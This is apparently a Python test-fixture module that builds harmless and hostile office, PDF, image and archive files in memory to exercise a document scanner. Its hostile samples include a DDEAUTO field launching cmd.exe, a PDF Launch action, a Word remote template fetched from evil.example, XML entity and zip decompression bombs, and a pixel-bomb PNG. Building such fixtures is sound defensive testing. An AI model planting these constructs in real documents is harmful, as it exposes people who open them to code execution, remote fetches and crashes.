"""Files of every kind, sound and hostile, built in memory: nothing hostile lies in the repository."""

from __future__ import annotations

import struct
import zipfile
import zlib
from collections.abc import Mapping
from io import BytesIO

import docx
import pikepdf
import xlsxwriter
from PIL import Image
from PIL.PngImagePlugin import PngInfo

RESIDENT = "410825199003077715"
MOBILE = "13803891234"
_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def pdf(words: str = "Plan 2022", *, author: str = "", text: bool = True, change=None) -> bytes:  # type: ignore[no-untyped-def]
    """One page; ``change`` gets the open document to do harm to."""
    document = pikepdf.new()
    page = document.add_blank_page(page_size=(300, 200))
    if text:
        font = pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica)
        page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=document.make_indirect(font)))
        page.Contents = document.make_stream(f"BT /F1 12 Tf 20 100 Td ({words}) Tj ET".encode())
    if author:
        document.docinfo["/Author"] = author
    if change:
        change(document)
    return saved(document)


def saved(document: pikepdf.Pdf, **options: object) -> bytes:
    out = BytesIO()
    document.save(out, **options)
    return out.getvalue()


def with_script(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))


def with_launch(document: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)
    document.pages[0].Annots = document.make_indirect(pikepdf.Array([note]))


def with_file(document: pikepdf.Pdf) -> None:
    document.attachments["名单.xlsx"] = pikepdf.AttachedFileSpec(document, b"rows")


def encrypted_pdf() -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    return saved(document, encryption=pikepdf.Encryption(owner="o", user="secret"))


def scanned_pdf() -> bytes:
    """A page that is one picture."""
    out = BytesIO()
    Image.new("RGB", (60, 40), "white").save(out, "PDF")
    return out.getvalue()


def word(*paragraphs: str, author: str = "张三", cell: str = "", footer: str = "") -> bytes:
    document = docx.Document()
    for paragraph in paragraphs:
        document.add_paragraph(paragraph)
    if cell:
        document.add_table(1, 1).cell(0, 0).text = cell
    if footer:
        document.sections[0].footer.paragraphs[0].text = footer
    document.core_properties.author = author
    out = BytesIO()
    document.save(out)
    return out.getvalue()


def rezipped(content: bytes, changes: Mapping[str, bytes], replace: Mapping[bytes, bytes] | None = None) -> bytes:
    """The archive with entries added or changed, and ``replace`` done in the main part."""
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(content)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            data = changes.get(name, source.read(name))
            if name in ("word/document.xml", "xl/worksheets/sheet1.xml"):
                for old, new in (replace or {}).items():
                    assert old in data
                    data = data.replace(old, new)
            target.writestr(name, data)
        for name in set(changes) - set(source.namelist()):
            target.writestr(name, changes[name])
    return out.getvalue()


def macro_word() -> bytes:
    return rezipped(word("x"), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


def word_with_remote_template() -> bytes:
    relation = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        f'Type="{_RELATION}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    return rezipped(word("x"), {"word/_rels/settings.xml.rels": relation.encode()})


def word_with_dde() -> bytes:
    field = b'<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p><w:sectPr'
    return rezipped(word("x"), {}, {b"<w:sectPr": field})


def word_with_entities() -> bytes:
    bomb = b'<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><w:document>&b;</w:document>'
    return rezipped(word("x"), {"word/document.xml": b'<?xml version="1.0"?>' + bomb})


def sheet(rows: list[list[object]], *, hidden_rows: tuple[int, ...] = (), hidden_column: int | None = None) -> bytes:
    """A workbook with sheet 名单 (the rows) and a hidden sheet 底稿."""
    out = BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        book.set_properties({"author": "李四", "company": "温县某局"})
        page = book.add_worksheet("名单")
        for number, row in enumerate(rows):
            page.write_row(number, 0, row)
        for number in hidden_rows:
            page.set_row(number, None, None, {"hidden": True})
        if hidden_column is not None:
            page.set_column(hidden_column, hidden_column, None, None, {"hidden": True})
        page.write_comment("A1", f"联系人 {MOBILE}")
        draft = book.add_worksheet("底稿")
        draft.write(0, 0, f"身份证 {RESIDENT}")
        draft.hide()
    return out.getvalue()


def picture(kind: str = "JPEG", *, artist: str = "") -> bytes:
    out = BytesIO()
    image = Image.new("RGB", (8, 6), "red")
    if kind == "PNG":
        notes = PngInfo()
        notes.add_text("Author", artist)
        image.save(out, "PNG", pnginfo=notes)
    else:
        exif = Image.Exif()
        exif[315] = artist
        image.save(out, kind, exif=exif)
    return out.getvalue()


def huge_png(width: int = 50_000, height: int = 50_000) -> bytes:
    """A few hundred bytes that say they are 2.5 thousand million pixels."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 1000))
        + chunk(b"IEND", b"")
    )


def archive(entries: Mapping[str, bytes]) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in entries.items():
            target.writestr(name, data)
    return out.getvalue()


def zip_bomb(name: str = "word/document.xml") -> bytes:
    return archive({"[Content_Types].xml": b"<Types/>", name: b"\x00" * (60 * 1024 * 1024)})


def lying_zip() -> bytes:
    """The directory promises 10 bytes, the data is 40 MB."""
    content = bytearray(archive({"[Content_Types].xml": b"<Types/>", "word/document.xml": b" " * (40 * 1024 * 1024)}))
    for start in (b"PK\x01\x02", b"PK\x03\x04"):
        place = content.rfind(start)
        offset = 24 if start == b"PK\x01\x02" else 22
        content[place + offset : place + offset + 4] = struct.pack("<I", 10)
    return bytes(content)


def encrypted_office() -> bytes:
    """What Word writes when a password is set: an OLE file with a stream of this name."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 500


def ofd(words: str, attachment: bool = False) -> bytes:
    space = 'xmlns:ofd="http://www.ofdspec.org/2016"'
    entries = {
        "OFD.xml": f"<ofd:OFD {space}><ofd:DocBody><ofd:DocInfo><ofd:Author>王五</ofd:Author></ofd:DocInfo></ofd:DocBody></ofd:OFD>",
        "Doc_0/Pages/Page_0/Content.xml": f"<ofd:Page {space}><ofd:TextObject><ofd:TextCode>{words}</ofd:TextCode></ofd:TextObject></ofd:Page>",
    }
    if attachment:
        entries["Doc_0/Attachs/rows.xlsx"] = "rows"
    return archive({name: text.encode() for name, text in entries.items()})
